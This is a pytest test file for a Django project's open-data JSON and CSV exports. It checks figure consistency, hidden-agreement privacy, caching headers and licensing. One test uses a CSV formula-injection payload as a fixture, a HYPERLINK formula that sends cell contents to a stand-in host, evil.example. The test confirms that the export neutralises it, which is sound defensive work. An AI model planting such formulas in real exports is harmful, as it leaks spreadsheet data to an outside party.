"""Open data (issue 14, point 4): the public figures as anonymous JSON and CSV files.

The same figures as the public pages and the API, nothing the public may not see, a
hidden agreement as missing as one that does not exist, formula-safe CSV, the licence
and the caching of the public pages."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.test import Client
from tests.publishing.releasing import release as release_statistics
from tests.support import World, at, build_world, forget_public_copies, make_user

from detente.access.policy import Role
from detente.access.services import agreement_set_audience, disclosure_approve, disclosure_propose
from detente.agreements.models import Party
from detente.agreements.services import agreement_add_members
from detente.api.services import token_create
from detente.evidence.services import claim_record
from detente.registry.models import Person
from detente.registry.services import person_create
from detente.registry.status import CustodyStatus
from detente.web.open_data import FIGURES

LICENSE_URL = "https://creativecommons.org/licenses/by/4.0/"
FILES = (
    "/open/agreements.json",
    "/open/agreements.csv",
    "/open/agreements/deal/members.json",
    "/open/agreements/deal/members.csv",
    "/open/statistics.json",
    "/open/statistics.csv",
)


def release(w: World, source: str, i: int, day: str, status: str = "") -> None:
    claim_record(
        actor=w.actor,
        source=w.sources[source],
        person=w.person(i),
        agreement=w.agreement,
        status=status or CustodyStatus.UNCONDITIONAL_RELEASE,
        event_date=dt.date.fromisoformat(day),
        received_at=at(day),
    )


@pytest.fixture
def public(world: World) -> World:
    """The test world's agreement shown to everyone (one release reported, one confirmed)
    beside one shown to staff only."""
    agreement_set_audience(actor=world.actor, agreement=world.agreement, audience="public")
    release(world, "gov", 0, "2020-02-01")
    release(world, "gov", 1, "2020-02-01", CustodyStatus.PAROLE)
    release(world, "embassy", 1, "2020-02-20", CustodyStatus.PAROLE)
    build_world(world.actor, members=2, slug="closed")
    return world


def disclose(audience: str, people: list[Person]) -> None:
    proposer = User.objects.filter(username="a").first() or make_user("a", Role.ANALYST)
    approver = User.objects.filter(username="v").first() or make_user("v", Role.VERIFIER)
    d = disclosure_propose(actor=proposer, audience=audience, reason="hearing", people=people)
    disclosure_approve(actor=approver, disclosure=d)


def rows(response: Any) -> list[dict[str, str]]:
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def api_client(role: str | None) -> tuple[Client, dict[str, str]]:
    user = make_user(f"open-{role or 'public'}", role)
    _, secret = token_create(actor=user, user=user, name="open data", scope="read")
    return Client(), {"HTTP_AUTHORIZATION": f"Bearer {secret}"}


def test_the_agreement_figures_are_the_public_pages_and_the_apis(
    client: Client, public: World
) -> None:
    answer = client.get("/open/agreements.json")
    assert answer.status_code == 200
    assert answer["Content-Type"] == "application/json"
    data = answer.json()
    assert data["license"]["url"] == LICENSE_URL and data["license"]["id"] == "CC-BY-4.0"
    assert dt.datetime.fromisoformat(data["as_of"]).tzinfo is not None
    # The staff-only agreement is not there: only what the public sees.
    assert [a["slug"] for a in data["agreements"]] == ["deal"]
    row = data["agreements"][0]
    assert (row["promised"], row["claimed"], row["confirmed"], row["reported"]) == (5, 2, 1, 1)
    assert row["page"] == "/agreements/deal/"
    assert row["members"] == "/open/agreements/deal/members.json"
    # The API, with a token of a user of the public, says the same figures.
    api, headers = api_client(None)
    progress = api.get("/api/agreements/deal/progress", **headers).json()
    assert {k: row[k] for k in FIGURES} == {k: progress[k] for k in FIGURES}
    # The public page shows them too.
    html = client.get("/agreements/deal/").content.decode()
    for label, key in (
        ("Claimed released", "claimed"),
        ("Independently confirmed", "confirmed"),
        ("Independently confirmed released", "confirmed"),
        ("Reported released, not confirmed", "reported"),
        ("Still held", "held"),
        ("Not yet named", "unnamed"),
    ):
        assert f"<dt>{label}</dt><dd>{row[key]}</dd>" in html, label
    # The CSV: the same row, as text, and when it was made.
    (line,) = rows(client.get("/open/agreements.csv"))
    assert {k: line[k] for k in FIGURES if k != "promised_approximate"} == {
        k: "" if row[k] is None else str(row[k]) for k in FIGURES if k != "promised_approximate"
    }
    assert line["promised_approximate"] == "false"
    assert line["title"] == "Test agreement" and line["releasing_party"] == "Releasing"
    assert dt.datetime.fromisoformat(line["as_of"]).tzinfo is not None


def test_members_are_as_the_public_sees_them(client: Client, public: World) -> None:
    named, legislature_only, _unnamed = public.people
    disclose("public", [named])
    disclose("legislature", [legislature_only])
    answer = client.get("/open/agreements/deal/members.json")
    assert answer.status_code == 200
    data = answer.json()
    assert data["agreement"] == "deal" and data["license"]["url"] == LICENSE_URL
    members = {m["handle"]: m for m in data["members"]}
    assert set(members) == {p.handle for p in public.people}
    assert [m["name"] for m in data["members"] if m["name"]] == ["Yoandri 0 Pérez"]
    assert members[named.handle]["state"] == "reported"
    confirmed = members[public.person(1).handle]
    assert (confirmed["state"], confirmed["status"]) == ("confirmed", "parole")
    assert confirmed["released_on"] == "2020-02-01"
    api, headers = api_client(None)
    assert api.get("/api/agreements/deal/members", **headers).json()["items"] == data["members"]
    csv_rows = rows(client.get("/open/agreements/deal/members.csv"))
    assert [r["name"] for r in csv_rows if r["name"]] == ["Yoandri 0 Pérez"]
    # The name disclosed to the legislature only, and the one never disclosed, appear in
    # neither file, whoever asks: a signed-in legislator gets the public's file too.
    legislator = Client()
    legislator.force_login(make_user("committee", Role.LEGISLATURE))
    for asker in (client, legislator):
        for url in ("/open/agreements/deal/members.json", "/open/agreements/deal/members.csv"):
            body = asker.get(url).content.decode()
            assert "Yoandri 0" in body, url
            assert "Yoandri 1" not in body and "Yoandri 2" not in body, url


def _unmasked(content: bytes) -> bytes:
    """A signed-in page's logout form carries a CSRF token masked afresh every time."""
    return re.sub(rb'(name="csrfmiddlewaretoken" value=")[^"]*"', rb"\1", content)


def test_a_hidden_agreement_answers_exactly_like_a_missing_one(
    client: Client, public: World
) -> None:
    staff = Client()
    staff.force_login(make_user("staff", Role.ANALYST, staff=True))
    for asker in (client, staff):
        for suffix in ("json", "csv"):
            hidden = asker.get(f"/open/agreements/closed/members.{suffix}")
            missing = asker.get(f"/open/agreements/no-such-deal/members.{suffix}")
            assert hidden.status_code == missing.status_code == 404
            assert _unmasked(hidden.content) == _unmasked(missing.content)
            assert b"/closed/" not in hidden.content


def test_csv_cells_never_run_as_formulas(client: Client, public: World) -> None:
    hostile = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    person = person_create(actor=public.actor, given_names=hostile, paternal_surname="@Cmd")
    agreement_add_members(
        actor=public.actor,
        agreement=public.agreement,
        people=[person],
        named_on=dt.date(2020, 2, 1),
    )
    disclose("public", [person])
    Party.objects.filter(pk=public.releasing.pk).update(name="+Releasing")
    members = rows(client.get("/open/agreements/deal/members.csv"))
    (cell,) = [r["name"] for r in members if r["handle"] == person.handle]
    assert cell == "'" + hostile + " @Cmd"
    (line,) = rows(client.get("/open/agreements.csv"))
    assert line["releasing_party"] == "'+Releasing"
    # Every text cell of both files is safe; numbers are written as numbers.
    for row in [*members, line]:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    # JSON is not for spreadsheets: the name as it is.
    data = client.get("/open/agreements/deal/members.json").json()
    assert hostile + " @Cmd" in [m["name"] for m in data["members"]]


@pytest.mark.parametrize("url", FILES)
def test_cache_and_licence_headers_and_conditional_get(
    client: Client, public: World, url: str
) -> None:
    first = client.get(url)
    assert first.status_code == 200
    assert first["Cache-Control"] in ("public, max-age=60", "max-age=60, public")
    assert first["Link"] == f'<{LICENSE_URL}>; rel="license"'
    etag = first["ETag"]
    again = client.get(url, HTTP_IF_NONE_MATCH=etag)
    assert again.status_code == 304 and again.content == b""
    assert again["Link"] == first["Link"] and again["ETag"] == etag
    head = client.head(url)
    assert head.status_code == 200 and head["ETag"] == etag
    for method in ("post", "put", "delete", "patch"):
        assert getattr(client, method)(url).status_code == 405, method


def test_the_etag_follows_the_figures_not_the_clock(
    client: Client, public: World, monkeypatch: Any
) -> None:

    first = client.get("/open/agreements.json")
    forget_public_copies()
    later = dt.datetime(2031, 1, 1, tzinfo=dt.UTC)
    monkeypatch.setattr("detente.web.open_data.timezone.now", lambda: later)
    second = client.get("/open/agreements.json")
    assert second.json()["as_of"] == "2031-01-01T00:00:00+00:00"
    assert second["ETag"] == first["ETag"]
    assert client.get("/open/agreements.json", HTTP_IF_NONE_MATCH=first["ETag"]).status_code == 304
    # A new figure: a new ETag, and the old one no longer answers 304.
    release(public, "embassy", 0, "2020-03-01")
    third = client.get("/open/agreements.json", HTTP_IF_NONE_MATCH=first["ETag"])
    assert third.status_code == 200 and third["ETag"] != first["ETag"]
    assert third.json()["agreements"][0]["confirmed"] == 2


def test_signed_in_callers_get_the_same_file_never_cached(client: Client, public: World) -> None:
    staff = Client()
    staff.force_login(make_user("staff", Role.ANALYST, staff=True))
    anonymous = client.get("/open/agreements.json")
    signed_in = staff.get("/open/agreements.json")
    assert signed_in["Cache-Control"] == "no-store"
    assert signed_in.content == anonymous.content  # the staff-only agreement is not there


def test_statistics_before_and_after_the_first_release(client: Client, public: World) -> None:
    data = client.get("/open/statistics.json").json()
    assert data["release"] is None and data["license"]["url"] == LICENSE_URL
    assert "as_of" in data
    empty = client.get("/open/statistics.csv")
    assert empty.status_code == 200
    assert empty.content.decode().removeprefix("\ufeff").splitlines() == [
        "release,counted_at,released_at,table,row,column,count,suppressed,as_of"
    ]
    made = release_statistics()
    data = client.get("/open/statistics.json").json()
    api, headers = api_client(None)
    published = api.get("/api/statistics", **headers).json()
    assert data["release"] == made.pk
    assert {k: v for k, v in data.items() if k not in ("license", "as_of", "documentation")} == (
        published
    )
    lines = rows(client.get("/open/statistics.csv"))
    (table,) = published["tables"]
    cells = len(table["row_labels"]) * len(table["col_labels"])
    margins = len(table["row_labels"]) + len(table["col_labels"]) + 1
    assert len(lines) == cells + margins
    (grand,) = [r for r in lines if r["row"] == "total" and r["column"] == "total"]
    assert grand["count"] == ("" if table["total"] is None else str(table["total"]))
    for r in lines:
        assert r["release"] == str(made.pk) and r["table"] == table["name"]
        assert (r["count"] == "") == (r["suppressed"] == "true")


def test_the_files_are_the_same_in_every_language(client: Client, public: World) -> None:

    disclose("public", [public.person()])
    for url in FILES:
        english = client.get(url, HTTP_ACCEPT_LANGUAGE="en")
        forget_public_copies()
        spanish = client.get(url, HTTP_ACCEPT_LANGUAGE="es")
        assert spanish["ETag"] == english["ETag"], url
        assert spanish["Content-Language"] == english["Content-Language"] == "en", url
        if url.endswith(".json"):
            english_data, spanish_data = english.json(), spanish.json()
            english_data.pop("as_of"), spanish_data.pop("as_of")
            assert spanish_data == english_data, url
            assert "license" in spanish_data
        else:
            header = english.content.decode().splitlines()[0]
            assert spanish.content.decode().splitlines()[0] == header, url
        forget_public_copies()


def test_the_api_docs_list_the_files_and_the_licence(client: Client) -> None:
    html = client.get("/api/docs").content.decode()
    for url in (
        "/open/agreements.json",
        "/open/agreements.csv",
        "/open/agreements/&lt;slug&gt;/members.json",
        "/open/statistics.csv",
    ):
        assert url in html, url
    assert LICENSE_URL in html
